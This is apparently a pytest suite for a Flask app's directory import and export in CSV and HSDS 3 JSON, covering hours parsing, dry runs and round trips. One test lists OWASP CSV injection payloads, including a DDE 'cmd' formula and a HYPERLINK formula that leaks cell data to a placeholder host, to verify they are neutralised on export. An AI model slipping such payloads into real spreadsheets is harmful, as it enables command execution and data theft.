"""Directory import and export (ruta.directory_io): CSV and HSDS 3 JSON, dry runs, round trips.

The database is shared by the whole run: every test here leaves the demo directory as it found it
(``directory_restored``), checked by comparing exports before and after.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import delete, func, select

from ruta import directory, directory_io
from ruta.db import db
from ruta.models import Category, Location, Organization, Service


@contextmanager
def directory_restored() -> Iterator[None]:
    """Undo whatever a test does to the directory: rows it added are deleted, services and
    organisations it changed are set back (through the HSDS import), category names restored."""
    with db.transaction() as session:
        before_csv = directory_io.export_csv(session)
        before_hsds = directory_io.export_hsds(session)
        ids = {
            model: set(session.scalars(select(model.id)))
            for model in (Service, Location, Organization)
        }
        names = {c.id: dict(c.names) for c in session.scalars(select(Category))}
    try:
        yield
    finally:
        with db.transaction() as session:
            for model in (Service, Location, Organization):
                session.execute(delete(model).where(model.id.not_in(ids[model])))
            for category in session.scalars(select(Category)):
                category.names = names[category.id]
            session.flush()
            plan = directory_io.dry_run(session, json.dumps(before_hsds), "hsds")
            directory_io.apply(session, plan)
        with db.transaction() as session:
            assert directory_io.export_csv(session) == before_csv, "directory not restored"
            assert not directory_io.dry_run(session, json.dumps(before_hsds), "hsds").to_apply


@pytest.fixture()
def restore(app: Flask) -> Iterator[None]:
    with directory_restored():
        yield


def dry_run(content: str | bytes, fmt: str = "csv") -> directory_io.Plan:
    session = db.session()
    try:
        return directory_io.dry_run(session, content, fmt)
    finally:
        session.rollback()
        session.close()


def apply(content: str | bytes, fmt: str = "csv") -> dict[str, int]:
    with db.transaction() as session:
        return directory_io.apply(session, directory_io.dry_run(session, content, fmt))


def count_services() -> int:
    with db.transaction() as session:
        return int(session.scalar(select(func.count()).select_from(Service)) or 0)


def by_row(plan: directory_io.Plan) -> dict[str, directory_io.PlanRow]:
    return {row.row: row for row in plan.rows if row.kind == "service"}


HEADER = ",".join(directory_io.CSV_COLUMNS) + "\n"
GOOD_ROW = (
    "Org Prueba IO,Servicio nuevo,health,cr-upala,active,+506 0000 9901,"
    '"1-5 08:00-16:00",,es;en,Nuevo\n'
)
LOST_ROW = (
    "Org Prueba IO,Servicio perdido,health,xx-nowhere,active,+506 0000 9902,1-5 08:00-16:00,,es,\n"
)


# --- hours ----------------------------------------------------------------------------------


def test_hours_are_read_and_written_back_the_same() -> None:
    rows = directory_io.check_hours("1-5 08:00-16:00; 6 9:00-12:00")
    assert rows == tuple(
        sorted([(d, "08:00", "16:00") for d in range(1, 6)] + [(6, "09:00", "12:00")])
    )
    assert directory_io.hours_spec(rows) == "1-5 08:00-16:00; 6 09:00-12:00"
    assert directory_io.check_hours(directory_io.hours_spec(rows)) == rows
    assert directory_io.hours_spec(directory_io.check_hours("2,4 09:00-13:00")) == "2,4 09:00-13:00"
    assert directory_io.check_hours("") == ()


@pytest.mark.parametrize(
    ("spec", "message"),
    [
        ("lunes 8-16", "write days then times"),
        ("1-5 08:00", "write days then times"),
        ("1-5", "write days then times"),
        ("0-5 08:00-16:00", "days are 1 (Monday) to 7 (Sunday)"),
        ("1-8 08:00-16:00", "days are 1 (Monday) to 7 (Sunday)"),
        ("5-1 08:00-16:00", "from the first to the last"),
        ("1-5 08:00-25:00", "times are HH:MM"),
        ("1-5 16:00-08:00", "not before it closes"),
    ],
)
def test_bad_hours_say_what_is_wrong(spec: str, message: str) -> None:
    with pytest.raises(directory_io.HoursError, match=re.escape(message)):
        directory_io.check_hours(spec)


# --- CSV --------------------------------------------------------------------------------------


def test_a_csv_dry_run_lists_added_and_refused_rows_and_writes_nothing(app: Flask) -> None:
    services = count_services()
    content = HEADER + (
        GOOD_ROW
        + LOST_ROW
        + "Org Prueba IO,Horas malas,health,cr-upala,active,,lunes a viernes,,es,\n"
        "Org Prueba IO,,health,cr-upala,active,,,,es,\n"
        "Org Prueba IO,Sin categoria,magic,cr-upala,active,,,,es,\n"
        "Org Prueba IO,Estado raro,health,cr-upala,open,,,,es,\n"
        f"Org Prueba IO,Aviso largo,health,cr-upala,temporarily closed,,,{'x' * 321},es,\n"
        "Org Prueba IO,Servicio nuevo,food,cr-upala,active,,,,es,\n"
    )
    plan = dry_run(content)
    rows = by_row(plan)
    assert rows["row 2"].outcome == "added"
    assert rows["row 2"].changes["hours"] == ("", "1-5 08:00-16:00")
    assert rows["row 2"].changes["organization"] == ("", "Org Prueba IO (new organisation)")
    refused = {row: r.reasons[0] for row, r in rows.items() if r.outcome == "refused"}
    assert refused == {
        "row 3": "unknown municipality code 'xx-nowhere'",
        "row 4": refused["row 4"],
        "row 5": "missing service name",
        "row 6": refused["row 6"],
        "row 7": "bad status 'open': use active, inactive or temporarily closed",
        "row 8": "alert text has 321 characters; at most 320 fit",
        "row 9": "same organisation and service as row 2",
    }
    assert refused["row 4"].startswith('hours "lunes a viernes": write days then times')
    assert refused["row 6"].startswith("unknown category 'magic' (known: ")
    assert [r.name for r in plan.rows if r.kind == "organization"] == ["Org Prueba IO"]
    assert plan.counts == {"added": 2, "changed": 0, "unchanged": 0, "refused": 7}
    assert count_services() == services
    with db.transaction() as session:
        assert session.scalar(select(Organization).filter_by(name="Org Prueba IO")) is None


def test_applying_a_csv_writes_the_good_rows_only(restore: None) -> None:
    services = count_services()
    content = HEADER + GOOD_ROW + LOST_ROW
    counts = apply(content)
    assert counts["services_added"] == 1 and counts["services_refused"] == 1
    assert counts["organizations_added"] == 1
    assert count_services() == services + 1
    with db.transaction() as session:
        found = directory.search(session, "cr-upala", "health", "es")
        added = next(s for s in found if s.name == "Servicio nuevo")
        assert added.organization.name == "Org Prueba IO"
        assert [p.number for p in added.phones] == ["+506 0000 9901"]
        assert directory.format_hours(added, "es") == "Lun-Vie 8-16"
        assert added.languages == ["es", "en"] and added.description == "Nuevo"
        assert [link.location.name for link in added.locations] == ["Org Prueba IO, Upala"]
        assert session.scalar(select(Service).filter_by(name="Servicio perdido")) is None
    # The same file again: the good row is unchanged now, nothing else is added.
    plan = dry_run(content)
    assert [r.outcome for r in plan.rows] == ["unchanged", "refused"]


def test_a_csv_change_lists_only_the_fields_that_change(restore: None) -> None:
    content = (
        "organization;service;category;municipality;status;alert_text\n"
        "Clinica Ejemplo;Ebais Upala Centro;health;cr-upala;temporarily closed;Cerrado hoy\n"
    )
    plan = dry_run(content.encode("utf-8-sig"))  # Excel: semicolons and a byte order mark
    (row,) = plan.rows
    assert row.outcome == "changed"
    assert row.changes == {
        "status": ("active", "temporarily closed"),
        "alert_text": ("", "Cerrado hoy"),
    }
    apply(content)
    with db.transaction() as session:
        found = [s.name for s in directory.search(session, "cr-upala", "health", "es")]
        assert found[-1] == "Ebais Upala Centro"  # closed: listed after the open ones
        service = session.scalar(select(Service).filter_by(name="Ebais Upala Centro"))
        assert service is not None
        assert [p.number for p in service.phones] == ["+506 0000 0102"]  # column not in file
        assert directory.format_hours(service, "es") == "Lun-Vie 7-16"


def test_csv_export_then_import_changes_nothing(app: Flask) -> None:
    with db.transaction() as session:
        exported = directory_io.export_csv(session)
        packaged, mimetype, _ = directory_io.export(session, "csv")
    assert exported.splitlines()[0] == ",".join(directory_io.CSV_COLUMNS)
    assert "Clinica temporal Upala Norte" in exported and "temporarily closed" in exported
    plan = dry_run(packaged.encode("utf-8"))
    assert plan.counts == {
        "added": 0,
        "changed": 0,
        "unchanged": count_services(),
        "refused": 0,
    }
    assert mimetype == "text/csv"


def test_formula_cells_are_guarded_on_export_and_read_back(restore: None) -> None:
    content = HEADER + "=Org Formula,@Servicio,health,cr-upala,active,,,,es,=1+1\n"
    apply(content)
    with db.transaction() as session:
        exported = directory_io.export_csv(session)
    assert "'=Org Formula,'@Servicio" in exported and "'=1+1" in exported
    assert dry_run(exported).counts["changed"] == 0


#: OWASP's CSV injection payloads: a cell starting with = + - @, a tab or a carriage return.
INJECTIONS = (
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '+HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "=1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
)


def test_every_csv_injection_payload_is_neutralised_on_export(restore: None) -> None:
    apply(HEADER + "".join(f"Org Payloads,Payload {i},health,cr-upala\n" for i in range(7)))
    with db.transaction() as session:
        for i, payload in enumerate(INJECTIONS):
            service = session.scalar(select(Service).where(Service.name == f"Payload {i}"))
            assert service is not None
            service.description = payload
        session.flush()
        exported = directory_io.export_csv(session)
    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
    descriptions = {row["service"]: row["description"] for row in rows}
    for i, payload in enumerate(INJECTIONS):
        assert descriptions[f"Payload {i}"] == "'" + payload
    for row in rows:  # phones (+506...) and every other column: no live formula anywhere
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    # Read back without the quote; only the leading tab and CR go, as the importer trims text.
    changed = {r.name: r.changes for r in dry_run(exported).rows if r.outcome != "unchanged"}
    assert changed == {
        "Org Payloads / Payload 5": {"description": ("\t=1", "=1")},
        "Org Payloads / Payload 6": {"description": ("\r=1", "=1")},
    }


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"organization,service\n\xff\xfe", "not UTF-8"),
        ("", "empty"),
        ("organization,service,category\n", "missing column"),
        ("organization,service,category,municipality,colour\n", "unknown column"),
    ],
)
def test_unreadable_csv_files_are_refused_whole(app: Flask, content: Any, message: str) -> None:
    with pytest.raises(directory_io.ImportFileError, match=message):
        dry_run(content)


# --- HSDS 3 JSON ----------------------------------------------------------------------------


def test_hsds_export_is_hsds_shaped_and_imports_with_no_change(app: Flask) -> None:
    with db.transaction() as session:
        doc = directory_io.export_hsds(session)
        content, mimetype, filename = directory_io.export(session, "hsds")
    assert mimetype == "application/json" and filename.endswith(".json")
    assert json.loads(content) == doc
    for array in ("organizations", "services", "locations", "service_at_locations", "phones"):
        assert doc[array], array
    service = next(s for s in doc["services"] if s["name"] == "Clinica temporal Upala Norte")
    assert service["status"] == "temporarily closed"
    assert service["alert"] == "Cerrado por obras hasta nuevo aviso"
    assert service["x_category"] == "health"
    schedules = [s for s in doc["schedules"] if s["service_id"] == service["id"]]
    assert schedules == [
        {
            "id": schedules[0]["id"],
            "service_id": service["id"],
            "freq": "WEEKLY",
            "wkst": "MO",
            "byday": "MO,TU,WE,TH,FR",
            "opens_at": "08:00",
            "closes_at": "12:00",
        }
    ]
    upala = next(loc for loc in doc["locations"] if loc["x_municipality_code"] == "cr-upala")
    assert upala["addresses"][0]["city"] == "Upala"
    plan = dry_run(content, "hsds")
    assert plan.counts["added"] == plan.counts["changed"] == plan.counts["refused"] == 0
    assert plan.counts["unchanged"] == count_services() + len(doc["organizations"])


def hsds_sample() -> dict[str, Any]:
    """A small third-party HSDS 3 file: a city instead of municipality codes, taxonomy terms."""
    return {
        "organizations": [
            {
                "id": "o1",
                "name": "Org HSDS Prueba",
                "description": "Organizacion de prueba",
                "website": "https://org.example",
                "email": "info@org.example",
            }
        ],
        "services": [
            {
                "id": "s1",
                "organization_id": "o1",
                "name": "Consulta HSDS",
                "status": "active",
                "description": "Atencion general",
                "attributes": [{"id": "a1", "link_id": "s1", "taxonomy_term_id": "t1"}],
                "languages": [{"id": "l1", "service_id": "s1", "code": "es"}],
            },
            {
                "id": "s2",
                "organization_id": "o1",
                "name": "Albergue lejano",
                "x_category": "shelter",
                "status": "active",
            },
            {
                "id": "s3",
                "organization_id": "o1",
                "name": "Servicio raro",
                "x_category": "astrology",
            },
            {"id": "s4", "organization_id": "o9", "name": "Sin organizacion", "x_category": "food"},
        ],
        "taxonomy_terms": [{"id": "t1", "code": "HEALTH-GEN", "name": "Salud"}],
        "locations": [
            {
                "id": "l1",
                "organization_id": "o1",
                "name": "Sede Los Chiles",
                "addresses": [{"address_1": "Calle 1", "city": "los chiles", "country": "CR"}],
            },
            {"id": "l2", "name": "Sede Atlantis", "addresses": [{"city": "Atlantis"}]},
        ],
        "service_at_locations": [
            {"id": "sal1", "service_id": "s1", "location_id": "l1"},
            {"id": "sal2", "service_id": "s2", "location_id": "l2"},
            {"id": "sal3", "service_id": "s3", "location_id": "l1"},
            {"id": "sal4", "service_id": "s4", "location_id": "l1"},
        ],
        "phones": [{"id": "p1", "service_id": "s1", "number": "+506 0000 9911"}],
        "schedules": [
            {
                "id": "h1",
                "service_id": "s1",
                "freq": "WEEKLY",
                "byday": "MO,WE,FR",
                "opens_at": "08:00:00",
                "closes_at": "12:30:00",
            },
            {
                "id": "h2",
                "service_at_location_id": "sal1",
                "byday": "SA",
                "opens_at": "09:00",
                "closes_at": "11:00",
            },
        ],
    }


def test_an_hsds_import_maps_what_it_can_and_refuses_the_rest_with_reasons(restore: None) -> None:
    content = json.dumps(hsds_sample())
    plan = dry_run(content, "hsds")
    outcomes = {row.row: (row.outcome, row.reasons) for row in plan.rows}
    assert outcomes == {
        "organizations[1]": ("added", []),
        "services[1]": ("added", []),
        "services[2]": (
            "refused",
            ["location Sede Atlantis: city 'Atlantis' is not a known municipality"],
        ),
        "services[3]": ("refused", ["unknown category 'astrology'"]),
        "services[4]": ("refused", ["organization_id 'o9' is not in organizations"]),
    }
    apply(content, "hsds")
    with db.transaction() as session:
        (found,) = [
            s
            for s in directory.search(session, "cr-los-chiles", "health", "es")
            if s.name == "Consulta HSDS"
        ]
        assert found.organization.url == "https://org.example"
        assert directory.format_hours(found, "es") == "Lun, Mie, Vie 8-12:30. Sab 9-11"
        assert [p.number for p in found.phones] == ["+506 0000 9911"]
        assert found.languages == ["es"]
        assert [(link.location.name, link.location.address) for link in found.locations] == [
            ("Sede Los Chiles", "Calle 1")
        ]
    assert not dry_run(content, "hsds").to_apply  # applied: the same file changes nothing now


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("{not json", "not JSON"),
        ("[1, 2]", "expected a JSON object"),
        ('{"services": 3}', "must be an array"),
    ],
)
def test_unreadable_hsds_files_are_refused_whole(app: Flask, content: str, message: str) -> None:
    with pytest.raises(directory_io.ImportFileError, match=message):
        dry_run(content, "hsds")


def test_bad_hsds_schedules_are_refused_with_the_reason(app: Flask) -> None:
    doc = hsds_sample()
    doc["services"] = doc["services"][:1]
    doc["schedules"] = [
        {"id": "h9", "service_id": "s1", "byday": "MONDAY", "opens_at": "8", "closes_at": "9"}
    ]
    (row,) = [r for r in dry_run(json.dumps(doc), "hsds").rows if r.kind == "service"]
    assert row.reasons == ["schedule h9: byday 'MONDAY' must be days like MO,TU"]


def test_categories_go_out_and_come_back_as_hsds_taxonomy_terms(restore: None) -> None:
    with db.transaction() as session:
        doc = directory_io.export_hsds(session)
    (taxonomy,) = doc["taxonomies"]
    assert taxonomy["name"] == "Ruta kinds of help"
    terms = {t["id"]: t for t in doc["taxonomy_terms"]}
    assert all(t["taxonomy_id"] == taxonomy["id"] for t in terms.values())
    assert {t["code"]: t["name"] for t in terms.values()}["documents"] == "Documents and procedures"
    for service in doc["services"]:
        (attribute,) = service["attributes"]
        assert terms[attribute["taxonomy_term_id"]]["code"] == service.pop("x_category")
    # Without the extension field the taxonomy terms alone say each service's category.
    plan = dry_run(json.dumps(doc), "hsds")
    assert plan.counts["changed"] == plan.counts["refused"] == plan.counts["added"] == 0

    # Another directory's vocabulary, and the codes used before the one taxonomy, map onto it.
    sample = hsds_sample()
    sample["taxonomy_terms"] = [{"id": "t1", "code": "LA-100", "name": "Legal aid"}]
    sample["services"] = sample["services"][:1]
    plan = dry_run(json.dumps(sample), "hsds")
    assert by_row(plan)["services[1]"].outcome == "added"
    apply(json.dumps(sample), "hsds")
    with db.transaction() as session:
        found = directory.search(session, "cr-los-chiles", "documents", "es")
        assert "Consulta HSDS" in [s.name for s in found]
    old_code = GOOD_ROW.replace(",health,", ",legal,").replace("Servicio nuevo", "Tramites")
    plan = dry_run(HEADER + old_code)
    (row,) = by_row(plan).values()
    assert row.outcome == "added" and row.values["category"] == "documents"
